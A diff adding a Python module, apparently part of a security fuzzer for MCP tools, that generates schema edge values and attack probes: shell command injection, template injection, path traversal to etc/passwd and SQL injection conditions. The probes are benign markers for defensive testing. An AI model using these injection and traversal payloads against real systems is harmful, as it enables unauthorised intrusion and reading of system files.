@@ -1,0 +1,109 @@
+"""Values for the arguments of an MCP tool: at the edge, outside of its schema, and attacks. Pure.
+
+Each comes with a rank: the lower, the sooner it is asked.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator, Mapping
+from typing import Any
+
+Ranked = tuple[int, Any]
+_PROGRAM = re.compile(
+    r"(?i)^(?:command|cmd|script|code|shell|expression|expr|formula|program|sql|statement)s?$"
+)
+"""An argument that is meant to be run or computed."""
+_FILE = re.compile(r"(?i)file|path|dir|folder|document|doc|name|uri|url|page|template|key|id$")
+_EXPR = "expr 1009 \\* 2003"
+_PASSWD = "etc/passwd"
+
+
+def commands(value: str) -> tuple[str, ...]:
+    """A value with a command behind it; its output is a product that nobody sent."""
+    return (
+        f"{value}; {_EXPR}",
+        f"{value} $({_EXPR})",
+        f"{value}'; {_EXPR}; echo '",
+        f'{value}"; {_EXPR}; echo "',
+        f"{value} | {_EXPR}",
+        f"{value}\n{_EXPR}",
+        f"{value}' \"$({_EXPR})\" '",
+        f"{value} `{_EXPR}`",
+    )
+
+
+def expressions(value: str) -> tuple[str, ...]:
+    """A value with an expression of a language of templates."""
+    sums = ("{{1009*2003}}", "${1009*2003}", "<%= 1009*2003 %>", "#{1009*2003}")
+    return tuple(value + one for one in sums)
+
+
+def climbs(value: str) -> tuple[str, ...]:
+    """Ways from a folder to a file that every machine has."""
+    return (
+        f"{'../' * 9}{_PASSWD}",
+        f"/{_PASSWD}",
+        f"{'..%2f' * 9}etc%2fpasswd",
+        f"file:///{_PASSWD}",
+        f"{value}/{'../' * 9}{_PASSWD}",
+        f"{'....//' * 9}{_PASSWD}",
+    )
+
+
+def conditions(value: str) -> tuple[tuple[str, ...], ...]:
+    """A value with a true and a false condition, each twice."""
+    forms = ("{}' OR '1'='{}", "{}' AND '1'='{}", "{} OR 1009={}", "{}%' OR '1'='{}", "{}') OR ('1'='{}")
+    pairs = [
+        (
+            form.format(value, "1009" if "1009" in form else "1"),
+            form.format(value, "2003" if "1009" in form else "2"),
+        )
+        for form in forms
+    ]
+    return tuple((true, false, true, false) for true, false in pairs)
+
+
+def attacks(name: str, value: str) -> Iterator[tuple[int, tuple[str, ...]]]:
+    """Attacks on one text: the values to send after the control."""
+    if not _PROGRAM.match(name):
+        yield from ((1 + at // 3, (one,)) for at, one in enumerate(commands(value)))
+        yield from ((1 + at, (one,)) for at, one in enumerate(expressions(value)))
+    late = 0 if _FILE.search(name) else 2
+    yield from ((1 + late + at // 2, (one,)) for at, one in enumerate(climbs(value)))
+    yield from ((1 + at, pair) for at, pair in enumerate(conditions(value)))
+
+
+def edges(said: Mapping[str, Any], usual: object) -> Iterator[Ranked]:
+    """Values at the edge of what a schema permits."""
+    if isinstance(usual, str) and not {"enum", "const", "format", "pattern"} & set(said):
+        longest, least = said.get("maxLength"), said.get("minLength")
+        most = longest if isinstance(longest, int) else 12_000
+        if not (isinstance(least, int) and least > 0):
+            yield 2, ""
+        yield 2, "a" * min(most, 12_000)
+        yield 3, "\u00e9\U0001d54c\U0001f600 \u4e16\u754c"[:most]
+        yield 4, "a\x00b"[:most]
+        yield 4, f"{usual[:1]}{'%s%n' * 8}"[:most]
+    elif type(usual) in (int, float):
+        bounds = [said.get(word) for word in ("minimum", "maximum")]
+        yield from ((3, one) for one in bounds if type(one) in (int, float))
+        yield from ((3, one) for one, bound in zip((0, 2**31), bounds, strict=True) if bound is None)
+
+
+def wrong(good: Mapping[str, Any], schema: Mapping[str, Any]) -> Iterator[Ranked]:
+    """Arguments outside of a schema, each in one place, and none that a lax reader may convert."""
+    listed = schema.get("properties")
+    known = listed if isinstance(listed, Mapping) else {}
+    for at, name in enumerate(good):
+        yield 2 + at, {key: one for key, one in good.items() if key != name}
+    for at, (name, said) in enumerate(known.items()):
+        if not isinstance(said, Mapping):
+            continue
+        if said.get("type") in ("string", "number", "integer", "boolean"):
+            yield 2 + at, {**good, name: {"qa": 1}}
+        if isinstance(said.get("enum"), list):
+            yield 2 + at, {**good, name: "qa-none-of-these"}
+        for word, step in (("maximum", 1), ("minimum", -1)):
+            if isinstance(bound := said.get(word), int | float):
+                yield 3 + at, {**good, name: bound + step}
